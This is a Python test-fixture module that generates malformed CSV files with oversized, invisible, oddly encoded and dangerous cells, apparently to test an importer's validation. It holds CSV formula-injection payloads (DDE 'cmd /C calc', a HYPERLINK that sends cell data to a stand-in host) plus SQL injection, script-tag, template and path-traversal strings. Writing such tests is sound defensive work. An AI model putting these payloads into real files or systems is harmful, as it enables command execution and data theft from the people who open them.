"""Cells that are huge, invisible, dangerous, or were eaten by a spreadsheet program."""

from __future__ import annotations

import csv
import io
import random
from collections.abc import Iterator

from tests.factories.malformed_files import HEADER, Malformed, marks_of, rows

DANGEROUS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid/?x="&A1,"点这里")', "+1+1", "-1+1", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "＝1+1", "＋1", "－1",
    "＠SUM(A1)", '"=1+1', "'=1+1", ";=1+1", ",=1+1", "|=1+1", "%0A=1+1", '=DDE("cmd";"/C calc";"a")', "=IMPORTXML(1,2)",
    "{=1+1}", "--1+1", "+-1",
    "\x00=1+1", "\x01=1+1", "\x1f=1+1",
)  # fmt: skip
"""What a spreadsheet program might run, also when cleaning takes something from its front."""

COMPANIES = {
    "emoji": "🏢深圳🚀科技👨‍👩‍👧‍👦公司",
    "right to left": "\u202eشركة التقنية\u202c",
    "zero width": "深\u200b圳\u200c科\u200d技\ufeff公司",
    "combining": "Z̷̡̢̛a̴l̶g̸o̵ 公司" + "\u0301" * 300,
    "control signs": "深\x01圳\x02科\x1b[31m技\x7f公司",
    "very wide": "＂深圳＂，科技＼有限公司",
    "only punctuation": "——！！？？……",
    "sql": "'; DROP TABLE lists.row; --",
    "template": "{{7*7}} ${7*7} {0} %s %(x)s",
    "markup": "<script>alert(1)</script>&amp;<!--",
    "path": "../../../../etc/passwd",
    "json": '{"a": [1, 2',
    "repetition": "有限公司" * 4000,
    "regex bait": "（北京（北京（北京（" * 500,
    "digits": "1" * 30_000,
    "brackets": "(" * 20_000,
}
NUMBERS = {
    "scientific": ("1.38E+10", "1.38E+10", "13.8E9", "1.381234E+10", "1e10", "1.38E+0010", "1,38E+10", "E+10"),
    "floats": ("13812345678.0", "13812345678.00", "13812345678.5", "1.3812345678", "13,812,345,678",
        "138.1234.5678", "0.0", "-13812345678"),
    "dates": ("2026-10-01", "2026/10/01 09:00:00", "1899-12-31", "45930", "10月1日", "20261001", "2026年10月", "12:30"),
    "links": ("mailto:a@b.cn", "http://x.cn/?t=13812345678", "tel:13812345678", "#REF!", "#N/A", "#VALUE!", "####",
        "file:///c:/a"),
    "long runs": ("1" * 5000, "0" * 5000, "138" * 3000, "+" * 9000, "-" * 9000, "13812345678" * 500,
        "1-" * 9000, "( " * 9000),
    "many numbers": tuple("/".join(f"139{n:04d}{k:04d}" for k in range(300)) for n in range(8)),
    "other digits": ("١٣٨١٢٣٤٥٦٧٨", "१३८१२३४५६७८", "一三八一二三四五六七八", "①③⑧①②③④⑤⑥⑦⑧", "𝟏𝟑𝟖𝟏𝟐𝟑𝟒𝟓𝟔𝟕𝟖",
        "１３８１２３４５６７８", "l38I2345678", "13８12345６78"),
}  # fmt: skip


def files(rng: random.Random) -> Iterator[Malformed]:
    """Files with such cells; a cell beyond the limit rejects its row and only it."""
    for start in range(0, len(DANGEROUS), 8):
        yield _with(rng, f"formulas {start // 8}.csv", 0, DANGEROUS[start : start + 8])
    yield _with(rng, "formulas as persons.csv", 1, DANGEROUS[:16])
    yield _with(rng, "formulas as numbers.csv", 2, DANGEROUS[:16])
    yield _with(rng, "formulas as addresses.csv", 3, DANGEROUS[:16])
    for name, company in COMPANIES.items():
        yield _with(rng, f"cell {name}.csv", 0, (company,) * 3)
    for name, numbers in NUMBERS.items():
        yield _with(rng, f"numbers {name}.csv", 2, numbers)
    yield _with(rng, "one cell of a megabyte.csv", 0, ("", "甲" * 350_000, ""))
    yield _with(rng, "megabyte without blanks.csv", 3, ("", "x" * 1_000_000, ""))
    yield _with(rng, "cell at the limit.csv", 3, ("x" * 32_767, "x" * 32_768, "x"))
    yield _with(rng, "megabyte of line breaks.csv", 3, ("", "\n" * 150, "x\n" * 150))
    for name, place in (("first", 0), ("later", 6)):
        body = rows(rng)
        body[place][0] = "\x00" + body[place][0]
        yield Malformed("cells", f"nul byte {name}.csv", _csv(body), None, code="tables.not_a_table")


def _with(rng: random.Random, name: str, column: int, cells: tuple[str, ...]) -> Malformed:
    """A usual list in which each of these cells stands in one row."""
    body = rows(rng, max(8, len(cells)))
    for line, cell in zip(body, cells, strict=False):
        line[column] = cell or line[column]
    code = "tables.not_a_table" if any("\x00" in cell for cell in cells) else None
    return Malformed("cells", name, _csv(body), len(body) + 1, () if code else marks_of(body), code)


def _csv(body: list[list[str]]) -> bytes:
    written = io.StringIO()
    csv.writer(written).writerows([HEADER, *body])
    return written.getvalue().encode()
